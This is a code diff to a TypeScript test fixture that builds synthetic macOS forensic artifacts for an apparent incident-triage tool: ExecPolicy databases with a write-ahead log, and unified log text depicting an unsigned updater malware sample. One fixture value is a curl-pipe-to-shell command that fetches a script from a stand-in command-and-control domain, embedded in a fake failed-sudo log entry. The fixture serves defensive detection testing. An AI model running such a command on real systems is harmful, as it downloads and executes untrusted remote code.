@@ -1,3 +1,5 @@
+import type { Database as SqlDatabase } from 'sql.js';
+
 import { createZip, type TestZipEntry } from '../android/testZip';
 import { sqlite } from './sqliteReaders';
 import { CF_ABSOLUTE_EPOCH_S } from './textParsers';
@@ -16,6 +18,11 @@ export const MAC_SAMPLE = {
   agentProgram: '/Users/alex/Library/Application Support/.updater/updater',
   agentSha256: 'b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2',
   c2Domain: 'update-check.example.net',
+  /** The agent's installer: unsigned, downloaded, opened past Gatekeeper from Downloads (ExecPolicy). */
+  installerApp: '/Users/alex/Downloads/UpdaterSetup.app',
+  installerSigningId: 'UpdaterSetup-5555494490c3b1a8f2e4d6c8b0a2e4f6c8d0b2a4',
+  /** A failed sudo in the unified log whose command fetches a script from the domain. */
+  sudoCommand: '/bin/sh -c curl -fsSL https://update-check.example.net/i.sh | sh',
 } as const;
 
 export const EXAMPLE_MAC_BUNDLE_ID = 'bundle--6a3c1d2e-0000-4000-8000-00000000c0de';
@@ -128,6 +135,182 @@ export async function xprotectDatabase(
   const bytes = Buffer.from(db.export());
   db.close();
   return bytes;
+}
+
+/** One row of ExecPolicy's executable_measurements_v2 (Unix-second timestamps, as syspolicyd writes them). */
+export interface ExecMeasurementRow {
+  signed: 0 | 1;
+  fileIdentifier: string;
+  bundleId?: string | null;
+  teamId?: string | null;
+  signingId?: string | null;
+  cdhash: string;
+  mainExecutableHash?: string | null;
+  quarantined: 0 | 1;
+  at: string;
+}
+
+/** One row of ExecPolicy's provenance_tracking: an app that cleared quarantine, as a file URL. */
+export interface ProvenanceRow {
+  url: string;
+  bundleId?: string | null;
+  teamId?: string | null;
+  signingId?: string | null;
+  cdhash?: string | null;
+  at: string;
+}
+
+interface ExecPolicyRows {
+  measurements?: ExecMeasurementRow[];
+  provenance?: ProvenanceRow[];
+  scanTargets?: { path: string; responsible?: string | null; at: string }[];
+}
+
+function insertExecPolicyRows(db: SqlDatabase, rows: ExecPolicyRows): void {
+  const unix = (iso: string) => Math.round(Date.parse(iso) / 1000);
+  for (const m of rows.measurements ?? [])
+    db.run(
+      'INSERT INTO executable_measurements_v2 (is_signed, file_identifier, bundle_identifier, team_identifier, signing_identifier, cdhash, main_executable_hash, executable_timestamp, file_size, is_library, is_used, is_valid, is_quarantined, timestamp) VALUES (?, ?, ?, ?, ?, ?, ?, ?, 4096, 0, 1, 1, ?, ?)',
+      [
+        m.signed,
+        m.fileIdentifier,
+        m.bundleId ?? null,
+        m.teamId ?? null,
+        m.signingId ?? null,
+        m.cdhash,
+        m.mainExecutableHash ?? null,
+        unix(m.at) - 60,
+        m.quarantined,
+        unix(m.at),
+      ],
+    );
+  for (const p of rows.provenance ?? [])
+    db.run(
+      'INSERT INTO provenance_tracking (url, bundle_id, cdhash, team_identifier, signing_identifier, flags, timestamp) VALUES (?, ?, ?, ?, ?, 0, ?)',
+      [p.url, p.bundleId ?? null, p.cdhash ?? null, p.teamId ?? null, p.signingId ?? null, unix(p.at)],
+    );
+  for (const t of rows.scanTargets ?? [])
+    db.run(
+      'INSERT INTO scan_targets_v2 (path, responsible_path, is_library, is_used, timestamp) VALUES (?, ?, 0, 1, ?)',
+      [t.path, t.responsible ?? null, unix(t.at)],
+    );
+}
+
+async function execPolicyTables(): Promise<SqlDatabase> {
+  const SQL = await sqlite();
+  const db = new SQL.Database();
+  db.run(
+    "CREATE TABLE executable_measurements_v2 (is_signed INTEGER, file_identifier TEXT NOT NULL, bundle_identifier TEXT, bundle_version TEXT, team_identifier TEXT, signing_identifier TEXT, cdhash TEXT NOT NULL, main_executable_hash TEXT, executable_timestamp INTEGER, file_size INTEGER, is_library INTEGER, is_used INTEGER, responsible_file_identifier TEXT, is_valid INTEGER, is_quarantined INTEGER, timestamp INTEGER NOT NULL DEFAULT (strftime('%s','now')), reported_timestamp INTEGER, PRIMARY KEY (cdhash))",
+  );
+  db.run(
+    'CREATE TABLE provenance_tracking (pk INTEGER PRIMARY KEY, url TEXT NOT NULL, bundle_id TEXT, cdhash TEXT, team_identifier TEXT, signing_identifier TEXT, flags INTEGER, timestamp INTEGER NOT NULL, link_pk INTEGER)',
+  );
+  db.run(
+    "CREATE TABLE scan_targets_v2 (path TEXT NOT NULL, responsible_path TEXT, is_library INTEGER, is_used INTEGER, timestamp INTEGER NOT NULL DEFAULT (strftime('%s','now')), measured_timestamp INTEGER, deferral_count INTEGER, PRIMARY KEY (path))",
+  );
+  return db;
+}
+
+/** An ExecPolicy database (/var/db/SystemPolicyConfiguration/ExecPolicy) with the tables we read. */
+export async function execPolicyDatabase(rows: ExecPolicyRows): Promise<Buffer> {
+  const db = await execPolicyTables();
+  insertExecPolicyRows(db, rows);
+  const bytes = Buffer.from(db.export());
+  db.close();
+  return bytes;
+}
+
+/**
+ * An ExecPolicy as syspolicyd leaves it in WAL mode: `checkpointed` rows in the database, `later`
+ * ones only in its -wal (one committed transaction of the pages they changed, little-endian
+ * checksums, as SQLite writes on a Mac).
+ */
+export async function execPolicyWithWal(
+  checkpointed: ExecPolicyRows,
+  later: ExecPolicyRows,
+): Promise<{ database: Buffer; wal: Buffer }> {
+  const db = await execPolicyTables();
+  insertExecPolicyRows(db, checkpointed);
+  const database = Buffer.from(db.export());
+  insertExecPolicyRows(db, later);
+  const after = Buffer.from(db.export());
+  db.close();
+  return { database, wal: walBetween(database, after) };
+}
+
+/** A write-ahead log that turns `before` into `after`: a frame per changed page, the last the commit. */
+function walBetween(before: Buffer, after: Buffer): Buffer {
+  const pageSize = after.readUInt16BE(16) === 1 ? 65_536 : after.readUInt16BE(16);
+  const pages = after.length / pageSize;
+  const changed: number[] = [];
+  for (let p = 0; p < pages; p++) {
+    const page = after.subarray(p * pageSize, (p + 1) * pageSize);
+    if (p * pageSize >= before.length || !page.equals(before.subarray(p * pageSize, (p + 1) * pageSize)))
+      changed.push(p + 1);
+  }
+  const out = Buffer.alloc(32 + changed.length * (24 + pageSize));
+  let s0 = 0;
+  let s1 = 0;
+  const sum = (from: number, to: number) => {
+    for (let i = from; i < to; i += 8) {
+      s0 = (s0 + out.readUInt32LE(i) + s1) >>> 0;
+      s1 = (s1 + out.readUInt32LE(i + 4) + s0) >>> 0;
+    }
+  };
+  out.writeUInt32BE(0x377f0682, 0);
+  out.writeUInt32BE(3_007_000, 4);
+  out.writeUInt32BE(pageSize, 8);
+  out.writeUInt32BE(0, 12);
+  out.writeUInt32BE(0x9863be24, 16);
+  out.writeUInt32BE(0x459f25ea, 20);
+  sum(0, 24);
+  out.writeUInt32BE(s0, 24);
+  out.writeUInt32BE(s1, 28);
+  changed.forEach((page, i) => {
+    const at = 32 + i * (24 + pageSize);
+    out.writeUInt32BE(page, at);
+    out.writeUInt32BE(i === changed.length - 1 ? pages : 0, at + 4);
+    out.writeUInt32BE(0x9863be24, at + 8);
+    out.writeUInt32BE(0x459f25ea, at + 12);
+    after.copy(out, at + 24, (page - 1) * pageSize, page * pageSize);
+    sum(at, at + 8);
+    sum(at + 24, at + 24 + pageSize);
+    out.writeUInt32BE(s0, at + 16);
+    out.writeUInt32BE(s1, at + 20);
+  });
+  return out;
+}
+
+/** One entry of `log show` in its default style; `at` as log prints it (`2024-06-02 10:12:34.567890+0200`). */
+export interface LogShowEntry {
+  at: string;
+  process: string;
+  pid: number;
+  message: string;
+  type?: string;
+  subsystem?: string;
+}
+
+/**
+ * A UnifiedLog/<predicate>.txt as Aftermath writes it: `log show ... -predicate '<filter>'` output
+ * whole, its banner, the column header, the entries and the closing counts.
+ */
+export function logShowText(predicate: string, entries: LogShowEntry[]): string {
+  const lines = [
+    `Filtering the log data using "${predicate}"`,
+    'Timestamp                       Thread     Type        Activity             PID    TTL  ',
+  ];
+  for (const e of entries)
+    lines.push(
+      `${e.at} ${'0x2b1c4'.padEnd(10)} ${(e.type ?? 'Default').padEnd(11)} ${'0x0'.padEnd(20)} ${String(e.pid).padEnd(6)} ${'0'.padEnd(4)} ${e.process}: ${e.subsystem ? `[${e.subsystem}] ` : ''}${e.message}`,
+    );
+  lines.push(
+    '--------------------------------------------------------------------------------------------------------------------',
+    `Log      - Default:          ${entries.length}, Info:                0, Debug:             0, Error:          0, Fault:          0`,
+    'Activity - Create:            0, Transition:          0, Actions:           0',
+    '',
+  );
+  return lines.join('\n');
 }
 
 const launchBlock = (plist: string, label: string, program: string, sha256: string, signature: string) =>
@@ -360,6 +543,97 @@ export async function aftermathZip(options: AftermathSampleOptions = {}): Promis
       '',
     ].join('\n'),
   });
+  // syspolicyd's ExecPolicy (macOS 13+): Zoom measured and cleared from quarantine with its team.
+  // The flagged Mac's latest runs sit only in the -wal beside it, as on a live Mac: the unsigned
+  // updater from a download, and its installer app opened from Downloads past Gatekeeper.
+  const zoom = {
+    measurements: [
+      {
+        signed: 1 as const,
+        fileIdentifier: 'zoom.us',
+        bundleId: 'us.zoom.xos',
+        teamId: 'BJ4HAAB9B3',
+        signingId: 'us.zoom.xos',
+        cdhash: '5f0e1d2c3b4a59687766554433221100ffeeddcc',
+        mainExecutableHash: 'aa11bb22cc33dd44ee55ff6600112233445566778899aabbccddeeff00112233',
+        quarantined: 1 as const,
+        at: '2024-01-10T08:58:00Z',
+      },
+    ],
+    provenance: [
+      {
+        url: 'file:///Applications/zoom.us.app/',
+        bundleId: 'us.zoom.xos',
+        teamId: 'BJ4HAAB9B3',
+        signingId: 'us.zoom.xos',
+        at: '2024-01-10T08:58:00Z',
+      },
+    ],
+    scanTargets: [{ path: '/Applications/zoom.us.app', at: '2024-01-10T08:57:00Z' }],
+  };
+  if (bad) {
+    const { database, wal } = await execPolicyWithWal(zoom, {
+      measurements: [
+        {
+          signed: 0,
+          fileIdentifier: 'updater',
+          cdhash: '9a8b7c6d5e4f30211203f4e5d6c7b8a900112233',
+          mainExecutableHash: MAC_SAMPLE.agentSha256,
+          quarantined: 1,
+          at: '2024-06-02T08:14:00Z',
+        },
+      ],
+      provenance: [
+        {
+          url: `file://${MAC_SAMPLE.installerApp}/`,
+          signingId: MAC_SAMPLE.installerSigningId,
+          at: '2024-06-02T08:13:00Z',
+        },
+      ],
+    });
+    files.push({ name: 'Artifacts/raw/provenance/ExecPolicy', data: database });
+    files.push({ name: 'Artifacts/raw/provenance/ExecPolicy-wal', data: wal });
+  } else files.push({ name: 'Artifacts/raw/provenance/ExecPolicy', data: await execPolicyDatabase(zoom) });
+  // Unified log text for Aftermath's default predicates (only files of more than two lines are written).
+  files.push({
+    name: 'UnifiedLog/ssh.txt',
+    data: logShowText('process == "sshd"', [
+      {
+        at: '2024-05-30 09:12:01.104233+0200',
+        process: 'sshd',
+        pid: 4120,
+        message: 'Accepted publickey for alex from 192.168.1.5 port 50522 ssh2: ED25519 SHA256:Zm9vYmFy',
+      },
+    ]),
+  });
+  files.push({
+    name: 'UnifiedLog/login.txt',
+    data: logShowText('process == "logind"', [
+      {
+        at: '2024-06-01 07:59:40.000120+0200',
+        process: 'logind',
+        pid: 98,
+        message: 'Session 100004 created for uid 501',
+        subsystem: 'com.apple.login:Session',
+      },
+    ]),
+  });
+  if (bad)
+    files.push({
+      name: 'UnifiedLog/failed_sudo.txt',
+      data: logShowText(
+        'process == "sudo" and eventMessage CONTAINS "TTY" AND eventMessage CONTAINS "3 incorrect password attempts"',
+        [
+          {
+            at: '2024-06-02 10:16:05.733001+0200',
+            process: 'sudo',
+            pid: 7402,
+            type: 'Error',
+            message: `  alex : 3 incorrect password attempts ; TTY=ttys001 ; PWD=/Users/alex ; USER=root ; COMMAND=${MAC_SAMPLE.sudoCommand}`,
+          },
+        ],
+      ),
+    });
   files.push({ name: 'aftermath.log', data: 'Aftermath started\nAftermath finished\n' });
   const entries: TestZipEntry[] = [];
   if (options.handZipped) {
